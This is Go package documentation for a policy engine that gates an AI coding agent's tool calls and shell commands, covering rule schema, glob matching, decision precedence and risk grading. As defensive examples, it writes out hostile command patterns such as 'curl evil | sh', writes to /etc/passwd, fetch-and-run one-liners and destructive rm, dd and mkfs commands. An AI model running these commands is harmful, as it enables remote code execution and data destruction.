// Package policy is the per-workspace policy the engine consults before
// every tool call, patch apply and command: rules that allow, ask about or
// deny actions, the settings for running commands, a risk assessment of
// each action, and the rules that "remember this choice" and "apply to
// similar" (protocols/jsonrpc-unix-socket.md, tool.approve) add.
//
// A Policy is stored with its workspace as the JSON document below and
// served by front-ends as GET/PUT /v1/workspaces/{id}/policy
// (protocols/http-websocket-sessions.md), so that document is a public,
// versioned contract: Parse validates it strictly and MarshalJSON writes
// it.
//
// # The document (version 1)
//
//	{
//	  "version": 1,
//	  "commands": {
//	    "mode": "local_terminal",
//	    "sandbox": {"network": false},
//	    "env": ["GOFLAGS", "NODE_ENV"]
//	  },
//	  "rules": [
//	    {"tool": "*", "paths": ["**/.git/**"], "changes_only": true, "action": "deny",
//	     "reason": "git's own files are changed through git commands", "source": "default"},
//	    {"tool": "run_command", "commands": ["go test *", "go vet *"], "action": "allow",
//	     "source": "user", "created_at": "2025-06-01T09:30:00Z"},
//	    {"tool": "write_file", "paths": ["docs/**"], "action": "allow", "source": "similar",
//	     "reason": "the user allowed write_file on docs/intro.md and similar actions",
//	     "created_at": "2025-06-02T10:00:00Z"}
//	  ]
//	}
//
// Fields (every field not marked required may be left out or null):
//
//   - version (required): 1. Other versions are rejected.
//   - commands.mode: "local_terminal" (default: the client runs each
//     approved command in the user's terminal) or "server_runner" (the
//     engine runs it, sandboxed, with time and output limits).
//   - commands.sandbox.network: for server_runner, whether commands may
//     use the network; default false.
//   - commands.env: names of environment variables passed to commands the
//     engine runs, on top of its base allow-list. Names only
//     ([A-Za-z_][A-Za-z0-9_]*, no repeats); values come from the engine's
//     environment.
//   - rules: at most 10,000; their order does not matter to Decide.
//   - rules[i].tool (required): a tool name, or a glob of names (*, ?,
//     [...] as in path.Match); "*" is every tool. Actions that no tool
//     started are named by their kind: "patch_apply", "command". A patch
//     is judged once per edit tool that proposed part of it (write_file,
//     edit_file, delete_file), on the files that tool edited as the patch
//     writes them (symlinks resolved), by the rules for that tool and the
//     rules for "patch_apply"; the strictest answer wins.
//   - rules[i].paths: path globs, at most 256 (see below).
//   - rules[i].commands: command globs, at most 256 (see below). A rule
//     has paths or commands or neither, never both.
//   - rules[i].changes_only: true limits the rule to actions that can
//     change something: patch applies, commands, and calls of tools not
//     marked read-only (or that delete files).
//   - rules[i].action (required): "allow", "ask" or "deny".
//   - rules[i].reason: why, for people; Decision.Reason quotes it.
//   - rules[i].source: "user" (default), "remembered", "similar" or
//     "default".
//   - rules[i].created_at: when the rule was made, RFC 3339.
//
// Unknown fields, repeated fields, wrong JSON types, bad values, bad
// globs and duplicate rules (same tool, paths, commands and changes_only)
// are errors; each *ValidationError names its field, as in
// "rules[2].paths[0]: invalid glob: ...".
//
// # Path globs
//
// Paths are workspace-relative and slash-separated, matched with
// workspace.Glob: *, ? and [...] within one path segment, ** as a whole
// segment for any number of directories. A pattern without a slash matches
// the base name in any directory ("*.pem", ".env"); one with a slash
// matches the whole path ("src/**", "docs/*.md"). One addition: a leading
// / on a pattern without another slash anchors it at the root ("/Makefile"
// matches Makefile but not sub/Makefile). A backslash quotes a glob
// character. "src/**" matches src itself and everything below it.
//
// # Command globs
//
// A command glob is written like a shell command line and matched against
// command lines read the same way. Both are parsed with
// mvdan.cc/sh/v3/syntax in bash mode and read into words and operators:
// quotes and backslashes are removed (`echo "a b"` and `echo 'a b'` are
// the same), runs of blanks are one separator, operators are tokens of
// their own (`a&&b` is `a && b`), newlines are ;, and `…` is $(…).
// In the glob, an unquoted * matches any text, including blanks between
// words, and an unquoted ? matches one character of a word; quoted ('*',
// "*", \*) they are literal. A * that is a whole word after a blank also
// matches no word at all: "go test *" matches "go test", "go test -v
// ./..." and "go test ./... 2>&1", not "go testing". "npm run build*"
// matches "npm run build" and "npm run build:prod --watch". Nothing else
// is special: no [...], no variable expansion ("$HOME" is literal text).
// Parameter expansions ("${x:-y}"), extended globs and arithmetic are
// matched as the text the parser's printer gives them, minified.
//
// A * never crosses an operator that joins commands (; & && || | |&,
// newlines, parentheses), a reserved word (if, then, do, done, case, {,
// }, !, time, …), a substitution's boundary ($(, `, <(, >(, $(( and their
// closing ) or `), or an output redirection to a file (>, >>, >|, &>, <>):
// "go test *" does not match "go test ./... && curl evil | sh", nor "go
// test ./... > /etc/passwd". It does cross input redirections and
// here-documents (<, <<, <<<), descriptor duplications (2>&1) and
// redirections to /dev/null, /dev/stdout, /dev/stderr and /dev/tty.
//
// A command line is judged part by part: each simple command is a part,
// whether it is joined to others by ; & && || | |& and newlines or sits
// in a compound command (the commands of if, while, until, for, case,
// { }, ( ) and function bodies; [[ … ]], (( … )) and let are parts too);
// so is each command inside a substitution, whose place in the outer part
// a * may match, and each command substituted in a here-document body
// that is expanded. The words a compound command expands (for's list,
// case's word) are no part of their own. A glob without operators or
// reserved words is matched against each part; a glob with them ("make
// build && make test") is matched against the whole line and then covers
// all of its parts. So a deny rule for "rm -rf *" denies
// `cd build && rm -rf out`, and an allow rule for "go test *" allows
// `go test ./... | tee out.txt` only if `tee out.txt` is allowed too.
//
// A command line the parser rejects (unbalanced quotes or parentheses, a
// syntax error; and, as this package cannot read it, a here-document
// opened inside a substitution in another here-document's body) is never
// allowed by a rule: Decide asks, quoting the parser's error. Deny rules still apply: a glob without operators is
// looked for in the line's raw words (quote characters and backslashes
// dropped, words split at blanks, < and >, parts at ; & | ( ) ` and
// newlines), and one found, starting and ending at word boundaries,
// denies. A line of nothing but blanks and semicolons is empty. A command
// glob the parser rejects is invalid: "rules[0].commands[1]: invalid
// command glob: unterminated single quote: 1:6: reached EOF without
// closing quote `'`".
//
// # Decisions
//
// Decide judges each path of a request and each part of its command line
// on its own (a request with neither is judged as a whole). The paths of a
// request with a command line (its working directory) are judged only by
// rules with paths, and add nothing when none matches:
//
//  1. Deny wins: a matching deny rule denies it, whatever its source.
//  2. Otherwise the matching allow or ask rule that outranks the others
//     decides. Any rule not from Default outranks every default rule;
//     then the more specific match wins (a glob without wildcards, then a
//     glob, then a rule without paths or commands; then more literal
//     characters in the matching glob; then an exact tool name, then a
//     tool glob, then "*"); then the more authoritative source (user,
//     remembered, similar); then the newer rule; then ask over allow.
//  3. With no matching rule, the built-in default: patch applies and
//     commands ask; tools whose spec needs approval ask; a tool call that
//     deletes files asks; read-only tools, and tools that need no approval,
//     run.
//
// The request is denied if any of its paths or parts is denied, asks if
// any asks, and is allowed only if all are allowed. An allowed request
// whose assessed risk is critical asks instead unless every path and part
// was allowed by a glob without wildcards. Requests with an unknown kind
// or a path outside the workspace are denied. The Decision says which rule
// decided and why in words for people, and carries the risk assessment.
//
// # Command risk
//
// Assess grades a command line part by part and takes the worst. Parts
// are recognised by their program, after stripping VAR=value words and
// wrappers (sudo, env, nohup, nice, time, timeout, xargs, command, exec,
// …). A command line the parser rejects is at least medium, its raw words
// (see above) assessed as parts.
//
//   - low: reading and printing (ls, cat, grep, git status/log/diff, go
//     list, find without actions, --version/--help), shell state (cd,
//     export), arithmetic.
//   - medium, not reversible: building, testing, formatting and running
//     project code (go build/test/vet, make, cargo build, npm run/test,
//     pytest, scripts), file changes (cp, mv, mkdir, touch, sed -i, writing
//     files with >), local git changes (add, commit, rebase, reset),
//     programs the heuristic does not know.
//   - high: the network (curl, wget, ssh, scp, rsync to a host, git
//     push/fetch/pull/clone, go get, npm/pip/cargo install, npx),
//     package and toolchain managers, containers, clusters and clouds
//     (docker, kubectl, terraform, aws, gh), root (sudo, su), system
//     changes (systemctl, kill, crontab), deleting files (rm, git clean
//     -f, find -delete), discarding uncommitted work (git checkout --,
//     git restore, git stash drop), writing outside the workspace (any
//     absolute path, ~, ..).
//   - critical: rm -r of a broad path (/, a top-level system directory,
//     ~ or a folder directly in it, ., *, .., a variable that may be
//     empty), deleting .git, git reset --hard, git clean -fd/-fx, git push
//     --force, dd or redirection onto a device (/dev/sd…), mkfs, fdisk,
//     shred, chmod -R 777 or recursive chmod/chown of a broad path, kill
//     -1, terraform destroy, and downloaded code run by an interpreter
//     (curl … | sh, bash <(curl …), eval "$(wget -O- …)", python
//     https://…).
//
// Code that a shell runs (sh -c '…', eval, a here-document or echo piped
// into sh) is assessed as a command line of its own, four levels deep at
// most. The heuristic reads the command line; it does not expand
// variables, globs or aliases, so it can be fooled by indirection; Decide
// treats its result as advice (the critical-risk rule above) and never as
// a permission.
package policy
